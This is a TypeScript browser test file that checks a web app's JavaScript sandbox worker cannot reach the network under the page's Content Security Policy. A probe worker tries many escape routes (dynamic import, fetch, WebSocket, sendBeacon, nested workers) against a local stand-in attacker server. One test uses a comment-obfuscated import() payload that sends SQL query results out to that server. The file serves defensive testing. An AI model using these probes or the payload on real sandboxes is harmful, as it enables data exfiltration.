// The JS sandbox cannot reach the network even when its first two walls are
// gone. The page's CSP <meta> is the third wall: the app starts the sandbox
// worker from a blob: URL so the worker inherits that policy.
//
// "Parser check switched off": the test serves its own script in place of the
// bundled sandbox worker (assets/sandbox-worker-*.js). It speaks the worker
// protocol but has no parser check and no lockdown: on `start` it tries every
// way out and reports what happened as the cell's output. The app creates the
// worker exactly as it always does (src/sandbox/blob-worker.ts), so the only
// thing standing between these probes and a local "attacker" server on another
// port is the policy the worker inherited. A control run with the <meta>
// removed shows that the same probes do reach that server.
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appUrl, launchBrowser } from './harness';
import { cell, typeInto } from './learner';

let leak: Server;
let leakOrigin = '';
const hits: string[] = [];

beforeAll(async () => {
  leak = createServer((request: IncomingMessage, response) => {
    hits.push(`${request.method} ${request.url}`);
    // Everything an attacker would answer, so only the CSP can stop a probe.
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Content-Type', request.url?.startsWith('/es') ? 'text/event-stream' : 'text/javascript');
    response.end(request.url?.startsWith('/es') ? 'data: hi\n\n' : 'export default "leaked"; self.leaked = 1;');
  });
  leak.on('upgrade', (request, socket) => {
    hits.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => leak.listen(0, '127.0.0.1', resolve));
  leakOrigin = `http://127.0.0.1:${(leak.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await new Promise<void>((resolve) => leak.close(() => resolve()));
});

/** The worker the test serves instead of the real one. `LEAK` is replaced by the leak server's origin. */
const PROBE_WORKER = String.raw`
const LEAK = __LEAK__;
const post = (m) => self.postMessage(m);
const violations = new Set();
self.addEventListener('securitypolicyviolation', (e) => violations.add(e.effectiveDirective));
const wait = (ms) => new Promise((r) => setTimeout(r, ms));
async function probe(name, attempt) {
  try {
    const value = await Promise.race([attempt(), wait(4000).then(() => 'timed out')]);
    return name + ': allowed ' + (typeof value === 'object' ? 'object' : String(value).slice(0, 60));
  } catch (error) {
    return name + ': blocked ' + (error && error.name) + (self.DEBUG ? ' ' + error.message : '');
  }
}
const opened = (make) => new Promise((resolve, reject) => {
  const s = make();
  s.onopen = () => { s.close(); resolve('open'); };
  s.onerror = () => { s.close(); reject(Object.assign(new Error('error event'), { name: 'ErrorEvent' })); };
});
const xhr = (url) => new Promise((resolve, reject) => {
  const x = new XMLHttpRequest();
  x.open('GET', url);
  x.onload = () => resolve('status ' + x.status);
  x.onerror = () => reject(Object.assign(new Error('error event'), { name: 'ErrorEvent' }));
  x.send();
});
const blobModule = () => URL.createObjectURL(new Blob(['export default "from blob"'], { type: 'text/javascript' }));
self.addEventListener('message', async (event) => {
  if (event.data.type !== 'start') return;
  const results = [];
  results.push(await probe('import data:', () => import('data:text/javascript,export default "from data"')));
  results.push(await probe('import blob:', () => import(blobModule())));
  results.push(await probe('import remote', () => import(LEAK + '/import.js')));
  results.push(await probe('import protocol-relative', () => import(LEAK.replace('http:', '') + '/import2.js')));
  results.push(await probe('fetch remote', () => fetch(LEAK + '/fetch').then((r) => r.status)));
  results.push(await probe('fetch no-cors', () => fetch(LEAK + '/fetch-no-cors', { mode: 'no-cors' }).then((r) => r.type)));
  results.push(await probe('fetch data:', () => fetch('data:text/plain,hi').then((r) => r.text())));
  results.push(await probe('XMLHttpRequest', () => xhr(LEAK + '/xhr')));
  results.push(await probe('WebSocket', () => opened(() => new WebSocket(LEAK.replace('http:', 'ws:') + '/ws'))));
  results.push(await probe('EventSource', () => opened(() => new EventSource(LEAK + '/es'))));
  results.push(await probe('importScripts', () => importScripts(LEAK + '/classic.js')));
  results.push(await probe('sendBeacon', () => navigator.sendBeacon(LEAK + '/beacon', 'x') ? 'queued' : 'refused'));
  results.push(await probe('FontFace', () => new FontFace('leak', 'url(' + LEAK + '/font.woff)').load().then(() => 'loaded')));
  results.push(await probe('nested worker', () => new Promise((resolve, reject) => {
    const w = new Worker(LEAK + '/nested.js');
    w.onerror = () => reject(Object.assign(new Error('error event'), { name: 'ErrorEvent' }));
    setTimeout(() => resolve('started'), 1500);
  })));
  // Same-origin reads stay possible: the policy is not simply "nothing works".
  results.push(await probe('fetch same origin', () => fetch(new URL('index.html', __SITE__)).then((r) => r.status)));
  await wait(200);
  results.push('violated: ' + [...violations].sort().join(' '));
  post({ type: 'output', output: { kind: 'text', text: results.join('\n') } });
  post({ type: 'done', droppedOutputs: 0 });
});
`;

/**
 * The control page is a fulfilled response (the <meta> cut out), and Chromium
 * treats a document with no IP address as public: its Local Network Access
 * check would then block the probes to 127.0.0.1 on its own, and the control
 * would prove nothing. So the control browser runs with that check off.
 */
function launchWithoutLocalNetworkChecks(): Promise<Browser> {
  return chromium.launch({
    executablePath: process.env.CHROME_PATH ?? '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync',
      '--no-first-run', '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessForWorkers'],
  });
}

async function openWithProbeWorker(options: { stripCsp: boolean }): Promise<{ page: Page; context: BrowserContext }> {
  // Both runs use the same browser flags, so the <meta> is the only difference between them.
  const browser = await launchWithoutLocalNetworkChecks();
  const context = await browser.newContext();
  context.on('close', () => void browser.close());
  await context.route('**/assets/sandbox-worker-*.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: PROBE_WORKER.replace('__LEAK__', JSON.stringify(leakOrigin)).replace('__SITE__', JSON.stringify(appUrl())),
    }),
  );
  if (options.stripCsp) {
    await context.route(
      (url) => url.pathname.endsWith('/') || url.pathname.endsWith('/index.html'),
      async (route) => {
        const response = await route.fetch();
        const html = (await response.text()).replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/, '');
        await route.fulfill({ response, body: html });
      },
    );
  }
  const page = await context.newPage();
  await page.goto(appUrl('#/lessons/playground'));
  return { page, context };
}

async function probeResults(page: Page): Promise<string[]> {
  await cell(page, 'js-1').getByRole('button', { name: 'Run cell' }).click();
  await expect.poll(() => cell(page, 'js-1').getAttribute('data-status'), { timeout: 60_000 }).toBe('done');
  const text = await cell(page, 'js-1').locator('pre').filter({ hasText: 'import data:' }).first().textContent();
  return (text ?? '').split('\n').filter(Boolean);
}

describe('the sandbox worker under the page CSP, with the parser check and lockdown removed', () => {
  it('every import and network route fails and nothing reaches a server on another port', async () => {
    hits.length = 0;
    const { page, context } = await openWithProbeWorker({ stripCsp: false });
    try {
      const results = await probeResults(page);
      // The policy itself refused them (not some other check of the browser's).
      expect(results).toContainEqual('violated: connect-src font-src script-src-elem');
      const blocked = results.filter((line) => !/^(fetch same origin|violated)/.test(line));
      expect(blocked.length).toBe(14);
      for (const line of blocked) expect(line).toMatch(/: blocked /);
      expect(results).toContainEqual('fetch same origin: allowed 200');
      // A blocked attempt should have no late side effect either.
      await page.waitForTimeout(500);
      expect(hits).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('control: without the <meta> the same probes do reach the server, so the test above can fail', async () => {
    hits.length = 0;
    const { page, context } = await openWithProbeWorker({ stripCsp: true });
    try {
      const results = await probeResults(page);
            expect(results).toContainEqual('import data:: allowed object');
      expect(results).toContainEqual('fetch remote: allowed 200');
      expect(hits).toEqual(expect.arrayContaining(['GET /import.js', 'GET /fetch', 'GET /xhr']));
    } finally {
      await context.close();
    }
  });
});

describe('the real sandbox', () => {
  it('refuses the HTML-comment import() from the issue at its line, and nothing is requested', async () => {
    hits.length = 0;
    const browser = await launchBrowser();
    try {
      const page = await browser.newPage();
      await page.goto(appUrl('#/lessons/playground'));
      const payload = `const rows = await sql('SELECT name FROM riders LIMIT 2');\nawait import<!--\n('${leakOrigin}/leak?d=' + encodeURIComponent(JSON.stringify(rows)));`;
      await typeInto(page, 'js-1', payload);
      await cell(page, 'js-1').getByRole('button', { name: 'Run cell' }).click();
      const alert = cell(page, 'js-1').getByRole('alert');
      await expect.poll(() => alert.textContent(), { timeout: 60_000 }).toMatch(/line 2: .*import\(\) is not available/);
      expect(hits).toEqual([]);
    } finally {
      await browser.close();
    }
  });
});
